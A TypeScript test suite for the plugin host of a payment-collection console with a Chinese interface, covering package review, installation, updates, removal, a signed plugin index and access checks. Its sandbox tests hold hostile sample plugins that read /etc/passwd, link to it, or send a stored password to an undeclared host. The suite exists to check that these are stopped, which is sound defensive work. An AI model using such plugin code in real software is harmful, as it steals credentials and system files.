import { generateKeyPairSync } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { packPlugin } from '../../scripts/plugin-pack.ts';
import { startSimulator } from '../../scripts/plugin-template/test/simulator.ts';
import { addAccount, addCode } from '../../src/flow/accounts/index.ts';
import { checkRuleSet } from '../../src/flow/forwarded-texts/index.ts';
import { createRegistry, PluginShelf, shippedDescriptors } from '../../src/plugin-host/index.ts';
import { HOUR } from '../../src/shared/clock.ts';
import { ledgerPage, startLedgerPage } from '../simulators/descriptors/ledger-page.ts';
import { tarball, zip } from '../support/archives.ts';
import { captureLog } from '../support/captured-log.ts';
import { databases } from '../support/database.ts';
import { startIndex } from '../support/plugin-index.ts';
import type { Visit } from '../support/visitor.ts';
import { type ConsoleApp, readable, startConsole, texts } from './console-app.ts';

vi.setConfig({ testTimeout: 60_000 });

const template = fileURLToPath(new URL('../../scripts/plugin-template', import.meta.url));
let packed: Buffer;
let code: string;
let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'mpay-packed-'));
  const made = await packPlugin(template, folder);
  expect(made).toMatchObject({ id: 'acme-till', version: '0.1.0', hosts: ['https://till.acme.example'] });
  packed = await readFile(made.file);
  const again = await packPlugin(template, join(folder, 'again'));
  expect(await readFile(again.file)).toEqual(packed);
  const { readArchive } = await import('../../src/plugin-host/packages/read-archive.ts');
  code = String((await readArchive(packed)).get('package/index.js'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

/** The template's plugin, otherwise. */
const changed = (changes: Record<string, string>) =>
  Object.entries(changes).reduce((text, [from, to]) => {
    if (!text.includes(from)) throw new Error(`there is no ${from}`);
    return text.replaceAll(from, to);
  }, code);
const asZip = (content: string) => zip([{ path: 'acme/index.js', content }]);

describe.each(databases.filter(({ available }) => available))(
  'plugins in the console on $name',
  ({ name }) => {
    let app: ConsoleApp;
    let index: Awaited<ReturnType<typeof startIndex>>;

    beforeAll(async () => {
      index = await startIndex(packed);
      app = await startConsole(name, { config: { pluginIndex: index.place, allowPrivateNotify: true } });
    });
    afterAll(async () => {
      await app.stop();
      index.close();
    });

    async function upload(file: Buffer, fileName = 'plugin.tgz'): Promise<Visit> {
      const page = await app.keeper.get('/console/plugins/install');
      const body = new FormData();
      body.append(
        '_csrf',
        page.page.querySelector('#install input[name="_csrf"]')?.getAttribute('value') ?? '',
      );
      body.append('package', new Blob([new Uint8Array(file)]), fileName);
      return app.keeper.upload('/console/plugins/install', body);
    }

    async function review(file: Buffer): Promise<Visit> {
      const read = await upload(file);
      expect(texts(read, '#trouble')).toEqual([]);
      return app.keeper.get(read.location ?? '');
    }

    const agree = (page: Visit, hosts = 'confirmed') => app.keeper.submit(page, { hosts }, '#review');
    const installed = () => app.services.plugins.all().find(({ folder: id }) => id === 'acme-till');

    test('the list has every plugin with what the original shows and more, and is searched', async () => {
      const page = await app.keeper.get('/console/platforms');
      expect(page.page.querySelectorAll('.plugin').length).toBeGreaterThan(12);
      const row = texts(page, '#sqbpay').join();
      for (const word of [
        '收钱吧',
        '系统自带',
        '免费',
        '账号密码',
        '手机通知',
        '启用中',
        '1 个',
        's.shouqianba.com',
      ])
        expect(row, word).toContain(word);
      const found = await app.keeper.get(`/console/platforms?q=${encodeURIComponent('收钱吧')}`);
      expect(texts(found, '.plugin h2')).toEqual(['收钱吧']);
      expect(texts(await app.keeper.get('/console/platforms?state=off'), '.plugin')).toEqual([]);
      expect(readable(await app.keeper.get('/console/platforms?q=nothing-like-it'))).toContain(
        '没有找到插件',
      );
    });

    test('each platform has its page, with a drawing where the place of its number is known', async () => {
      let drawn = 0;
      for (const { folder: id } of app.services.plugins.all()) {
        const page = await app.keeper.get(`/console/platforms/${id}`);
        expect(page.status, id).toBe(200);
        expect(readable(page), id).toContain('平台费率');
        const drawings = page.page.querySelectorAll('svg.terminal-drawing');
        for (const drawing of drawings) {
          expect(drawing.getAttribute('aria-label'), id).toBe('示意图：编号的位置');
          // In the colours of the page, so that it is right in the dark too.
          expect(drawing.outerHTML, id).not.toMatch(/(fill|stroke)="#/);
        }
        drawn += drawings.length;
      }
      expect(drawn).toBeGreaterThan(2);
      const own = await app.keeper.get('/console/platforms/sqbpay');
      expect(texts(own, '#accounts a')).toHaveLength(1);
      expect((await app.keeper.get('/console/platforms/nobody')).status).toBe(404);
    });

    test('what waits for a recording stands in the list, with what is missing, how one can help, and what works today', async () => {
      const list = await app.keeper.get('/console/platforms?state=planned');
      const { templates } = shippedDescriptors();
      expect(list.page.querySelectorAll('.plugin')).toHaveLength(templates.length);
      expect(templates.length).toBeGreaterThan(3);
      for (const { id, gaps } of templates) {
        const page = await app.keeper.get(`/console/platforms/${id}`);
        expect(texts(page, '#missing li'), id).toHaveLength(gaps.length);
        expect(readable(page), id).toContain('您可以帮忙');
        expect(page.page.querySelector('a[href*="/accounts/new"]')).toBeNull();
      }
      const sealed = readable(await app.keeper.get('/console/platforms/sftpayweb'));
      expect(sealed).toContain('会加密请求');
      expect(sealed).toContain('现在可以这样用');
    });

    test('a file that is no plugin: what is wrong is said, and nothing is kept', async () => {
      for (const [file, words] of [
        [Buffer.from('hello'), '不是 zip'],
        [Buffer.alloc(3 * 1024 * 1024), '文件太大'],
        [zip([{ path: 'index.js', linkTo: '/etc/passwd' }]), '链接'],
        [asZip('import fs from "node:fs"; export default 1'), 'imports #plugin-api and nothing else'],
        [asZip(changed({ 'apiVersion: 2': 'apiVersion: 1' })), 'is made for version 1'],
        [asZip(changed({ 'id: "acme-till"': 'id: "sqbpay"' })), '系统自带'],
        [asZip('while (true) {} export default 1'), '插件有问题'],
      ] as const) {
        const read = await upload(file);
        expect(texts(read, '#trouble').join(), words).toContain(words);
        expect(read.status).toBe(400);
      }
      expect(await app.place.db('staged_plugins')).toEqual([]);
      expect(installed()).toBeUndefined();
    });

    test('a package is looked at first; without the owner’s yes to its addresses nothing is installed', async () => {
      const page = await review(packed);
      for (const word of ['acme-till', '0.1.0', 'https://till.acme.example', '沙箱', '用户名'])
        expect(readable(page)).toContain(word);
      const refused = await agree(page, '');
      expect(refused.status).toBe(400);
      expect(readable(refused)).toContain('请先确认它可以访问的地址');
      expect(installed()).toBeUndefined();
      expect((await app.keeper.get('/console/plugins/packages/nothing')).location).toBe(
        '/console/plugins/install?gone=1',
      );
    });

    test('what waited too long is read again', async () => {
      const page = await review(packed);
      app.clock.advance(HOUR);
      expect((await agree(page)).location).toBe('/console/plugins/install?gone=1');
      expect(readable(await app.keeper.get('/console/plugins/install?gone=1'))).toContain('已经过期');
    });

    test('installed without a restart, in every process; its account is asked, and an order is settled', async () => {
      const others = createRegistry([]);
      const { db } = app.place;
      const shelf = new PluginShelf({
        ...{ db, registry: others, log: captureLog().log, checkTextRules: checkRuleSet, allowPrivate: true },
      });
      await shelf.look();
      expect(others.find('acme-till')).toBeUndefined();

      const done = await agree(await review(packed));
      expect(done.location).toBe('/console/platforms/acme-till?done=pluginInstalled');
      const page = await app.keeper.get(done.location ?? '');
      for (const word of ['插件已安装', '自己安装', '在沙箱里运行', 'https://till.acme.example'])
        expect(readable(page)).toContain(word);
      expect((await app.audit())[0]).toMatchObject({
        ...{ action: 'plugin.install', subject: 'plugin acme-till' },
        detail: { version: '0.1.0', hosts: 'https://till.acme.example' },
      });
      await shelf.look();
      expect(others.find('acme-till')?.version).toBe('0.1.0');

      const till = await startSimulator(() => app.clock.now());
      const { password = '', ...open } = till.settings;
      const accountId = await addAccount(app.services.accountDeps, app.merchant.pid, 'acme-till', {
        ...{ login: 'shop', mode: 'continuous', intervalMs: 3_000, settings: { ...open, password } },
      });
      await addCode(app.services.accountDeps, accountId, {
        ...{
          label: '',
          payTypes: ['wxpay'],
          style: 'link',
          terminal: 'T1',
          content: 'https://qr.example/t1',
        },
      });
      await db('accounts').where({ id: app.accountId }).update({ enabled: false });
      const order = await app.order({ type: 'wxpay' });
      expect(order.placement?.accountId).toBe(accountId);
      till.pay({ amountFen: order.placement?.payableFen ?? 0, payType: 'wxpay', terminal: 'T1' });
      await app.tick(4_000);
      await app.tick(1_000);
      expect((await app.find(order.tradeNo)).state).toBe('paid');
      expect(await app.services.accounts.get(db, accountId)).toMatchObject({ health: 'ok' });
      await till.close();
    });

    test('an update shows what changes; other addresses are confirmed again, and end the sessions', async () => {
      const { db } = app.place;
      const same = await review(asZip(changed({ '"0.1.0"': '"0.2.0"' })));
      expect(readable(same)).toContain('从 0.1.0 到 0.2.0');
      expect(readable(same)).toContain('都没有变');
      expect((await app.keeper.submit(same, {}, '#review')).location).toContain('done=pluginInstalled');
      const session = () => db('accounts').where({ platform: 'acme-till' }).first('session_sealed');
      expect((await session()).session_sealed).not.toBeNull();

      const moved = asZip(changed({ '"0.1.0"': '"0.3.0"', 'till.acme.example': 'thief.example' }));
      const page = await review(moved);
      expect(texts(page, '#changes dd').join()).toContain('https://thief.example');
      expect(readable(page)).toContain('新增');
      expect((await agree(page, '')).status).toBe(400);
      expect(installed()?.installed?.version).toBe('0.2.0');
      expect((await agree(page)).location).toContain('done=pluginInstalled');
      expect((await session()).session_sealed).toBeNull();
      expect((await app.audit())[0]).toMatchObject({ action: 'plugin.update', detail: { version: '0.3.0' } });

      const older = await review(packed);
      expect(readable(older)).toContain('更旧的版本');
      await agree(older);
      expect(installed()?.installed?.version).toBe('0.1.0');
    });

    test('a plugin in use can’t be removed, in words and with the accounts; after they are off it can', async () => {
      const { db } = app.place;
      const page = await app.keeper.get('/console/platforms/acme-till');
      expect(page.page.querySelector('form[action$="/remove"]')).toBeNull();
      expect(readable(page)).toContain('还有 1 个收款账号在用它，不能卸载');
      expect(texts(page, '#accounts a')).toEqual(['shop']);
      expect(readable(page)).toContain('已经下单的买家付了款也不会自动确认');
      const token = page.page.querySelector('input[name="_csrf"]')?.getAttribute('value') ?? '';
      const forced = await app.keeper.post('/console/platforms/acme-till/remove', { _csrf: token });
      expect(forced.status).toBe(409);
      expect(texts(forced, '#trouble').join()).toContain('还有 1 个收款账号在用');
      expect(texts(forced, '#accounts a')).toEqual(['shop']);
      expect(installed()?.platform).not.toBeNull();

      await db('accounts').where({ platform: 'acme-till' }).update({ enabled: false });
      app.clock.advance(HOUR);
      const free = await app.keeper.get('/console/platforms/acme-till');
      const gone = await app.keeper.submit(free, {}, 'form[action$="/remove"]');
      expect(gone.location).toBe('/console/platforms?done=pluginRemoved');
      expect(installed()).toBeUndefined();
      expect((await app.audit())[0]).toMatchObject({ action: 'plugin.remove', subject: 'plugin acme-till' });
      for (const id of ['acme-till', 'sqbpay']) {
        const built = await app.keeper.post(`/console/platforms/${id}/remove`, { _csrf: token });
        expect([404, 409]).toContain(built.status);
      }
      expect(app.services.plugins.find('sqbpay')).toBeDefined();
    });

    test('a broken one stops nobody, is shown with its reason, and can be removed', async () => {
      const { db } = app.place;
      await agree(await review(packed));
      await db('installed_plugins')
        .where({ id: 'acme-till' })
        .update({ content: `${code};`, changed_at: 1 });
      await db('settings').where({ name: 'plugins_revision' }).update({ value: 'other' });
      await app.services.pluginShelf.look();
      expect(installed()).toMatchObject({ platform: null, problem: 'its content is not what was installed' });
      const page = await app.keeper.get('/console/platforms/acme-till');
      expect(texts(page, '#problem').join()).toContain('its content is not what was installed');
      expect(texts(await app.keeper.get('/console/platforms?state=broken'), '.plugin h2')).toEqual([
        'acme-till',
      ]);
      expect(app.services.plugins.find('sqbpay')).toBeDefined();
      await app.keeper.submit(page, {}, 'form[action$="/remove"]');
      expect(installed()).toBeUndefined();
    });

    test('one that reaches for a file, for another host or for ever is stopped, and its owner sees why', async () => {
      const { db } = app.place;
      const reaching = (version: string, body: string) =>
        asZip(`import * as api from '#plugin-api';
          export default api.definePlatform({
            id: 'thief', apiVersion: 2, version: '${version}', listening: 'polled', name: { zh: '客', en: 'Guest' },
            hosts: ['thief.example'], payTypes: ['wxpay'], facts: [], settings: [api.usualFields.password],
            terminal: { namedByReceipts: true, label: { zh: '端', en: 'T' }, help: { zh: '无', en: 'None' } },
            login: { async password(c) { ${body} } },
            async fetchReceipts() { return { receipts: [], dropped: [] }; },
          });`);
      for (const [version, body, words] of [
        ['1.0.0', "return { done: (await import('node:fs')).readFileSync('/etc/passwd') }", '插件出错'],
        [
          '1.0.1',
          "await c.http.get('https://elsewhere.example/?' + c.settings.password)",
          '没有声明这个地址',
        ],
        ['1.0.2', 'for (;;) {}', '计算太久'],
      ] as const) {
        await agree(await review(reaching(version, body)));
        const form = await app.keeper.get('/console/accounts/new?platform=thief');
        const typed = { login: version, mode: 'continuous', interval: '3', setting_password: 'canary-pass' };
        const added = await app.keeper.submit(form, typed);
        const page = await app.keeper.get((added.location ?? '').replace(/\?.*/, ''));
        expect(readable(page), version).toContain(words);
        expect(page.text).not.toContain('canary-pass');
      }
      await db('accounts').where({ platform: 'thief' }).update({ enabled: false });
      const token = (await app.keeper.get('/console/platforms/thief')).page
        .querySelector('input[name="_csrf"]')
        ?.getAttribute('value');
      await app.keeper.post('/console/platforms/thief/remove', { _csrf: token ?? '' });
      expect(app.services.plugins.find('thief')).toBeUndefined();
    });

    test('a descriptor from a file: no trust is asked for, its account settles an order; off and on at once', async () => {
      const { db } = app.place;
      const simulator = await startLedgerPage(() => app.clock.now());
      const written = ledgerPage.origins.reduce(
        (text, origin) => text.replaceAll(origin, simulator.url),
        JSON.stringify(ledgerPage),
      );
      const page = await review(Buffer.from(written));
      expect(readable(page)).toContain('没有代码');
      expect(page.page.querySelector('input[name="hosts"]')).toBeNull();
      expect((await app.keeper.submit(page, {}, '#review')).location).toContain('done=pluginInstalled');

      await db('accounts').update({ enabled: false });
      const { username = '', password = '', shop = '' } = simulator.settings;
      const form = await app.keeper.get('/console/accounts/new?platform=ledger-page');
      const added = await app.keeper.submit(form, {
        ...{ login: username, mode: 'continuous', interval: '3' },
        ...{ setting_password: password, setting_shop: shop },
      });
      const accountId = Number(/accounts\/(\d+)/.exec(added.location ?? '')?.[1]);
      await addCode(app.services.accountDeps, accountId, {
        ...{ label: '', payTypes: ['wxpay'], style: 'link', terminal: 'T1' },
        content: 'https://qr.example/t1',
      });
      const order = await app.order({ type: 'wxpay', money: '31.00' });
      expect(order.placement?.accountId).toBe(accountId);
      simulator.pay({ amountFen: order.placement?.payableFen ?? 0, payType: 'wxpay', terminal: 'T1' });
      await app.tick(4_000);
      expect((await app.find(order.tradeNo)).state).toBe('paid');

      const own = '/console/platforms/ledger-page';
      const turn = async () =>
        app.keeper.submit(await app.keeper.get(own), {}, `form[action="${own}/enabled"]`);
      await turn();
      await expect(app.order({ type: 'wxpay', money: '32.00' })).rejects.toThrow('没有可用的收款码');
      await turn();
      expect((await app.order({ type: 'wxpay', money: '33.00' })).placement?.accountId).toBe(accountId);
      await db('accounts').where({ id: accountId }).update({ enabled: false });
      await simulator.close();
    });

    test('the index: its packages are installed and updated; what is not signed, changed or old is refused', async () => {
      const offer = async () => app.keeper.get('/console/plugins/index');
      const fetchIt = async () => app.keeper.submit(await offer(), {}, 'form[action$="/index/acme-till"]');
      index.publish(5, '0.1.0');
      const read = await fetchIt();
      expect(read.location).toMatch(/^\/console\/plugins\/packages\/[0-9a-f]{32}$/);
      await agree(await app.keeper.get(read.location ?? ''));
      expect(installed()?.installed).toMatchObject({ version: '0.1.0', from: 'index' });
      expect(readable(await offer())).toContain('已安装 0.1.0');

      const next = tarball([{ path: 'package/index.js', content: changed({ '"0.1.0"': '"0.2.0"' }) }]);
      index.publish(6, '0.2.0', { content: next });
      expect(readable(await offer())).toContain('可以更新');
      const update = await fetchIt();
      await app.keeper.submit(await app.keeper.get(update.location ?? ''), {}, '#review');
      expect(installed()?.installed?.version).toBe('0.2.0');

      const token = (await offer()).page.querySelector('input[name="_csrf"]')?.getAttribute('value') ?? '';
      const force = async () => app.keeper.post('/console/plugins/index/acme-till', { _csrf: token });
      index.publish(5, '0.1.0');
      expect(texts(await offer(), '#trouble').join()).toContain('旧的一期');
      expect(texts(await force(), '#trouble').join()).toContain('旧的一期');
      index.publish(7, '0.1.0');
      expect(texts(await force(), '#trouble').join()).toContain('比已安装的 0.2.0 旧');
      index.publish(8, '0.3.0', { content: next });
      expect(texts(await force(), '#trouble').join()).toContain('不一样');
      index.publish(9, '0.2.0', { content: next, sha256: 'a'.repeat(64) });
      expect(texts(await force(), '#trouble').join()).toContain('不一样');
      index.publish(10, '0.2.0', { content: next, by: generateKeyPairSync('ed25519').privateKey });
      expect(texts(await offer(), '#trouble').join()).toContain('签名不对');
      expect(texts(await force(), '#trouble').join()).toContain('签名不对');
      expect(installed()?.installed?.version).toBe('0.2.0');
    });

    test('owners only, and never without the form’s token', async () => {
      for (const path of [
        '/console/plugins/install',
        '/console/plugins/index/acme-till',
        '/console/platforms/acme-till/remove',
      ])
        expect((await app.keeper.post(path, {})).status, path).toBe(403);
      const body = new FormData();
      body.append('package', new Blob([new Uint8Array(packed)]), 'plugin.tgz');
      expect((await app.keeper.upload('/console/plugins/install', body)).status).toBe(403);
      expect((await app.stranger.get('/console/plugins/install')).location).toContain('/console/login');
    });
  },
);
